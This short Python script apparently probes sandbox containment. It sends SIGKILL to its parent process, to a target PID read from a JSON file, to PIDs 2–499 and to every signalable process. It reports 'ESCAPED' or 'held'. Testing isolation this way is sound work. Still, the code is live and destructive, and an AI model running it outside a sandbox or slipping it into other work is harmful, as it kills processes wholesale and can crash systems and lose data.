"""Kills its parent, the host's process, everything that it can name and everything at once."""

import json
import os
import signal

escaped = []
for pid in {os.getppid(), json.load(open("target.json"))["pid"], *range(2, 500)}:
    if pid > 1 and pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
            escaped.append(pid)
        except OSError:
            pass
for everything in (lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(json.load(open("target.json"))["pid"], 9)):
    try:
        everything()
    except OSError:
        pass
print("ESCAPED", escaped) if escaped else print("held")
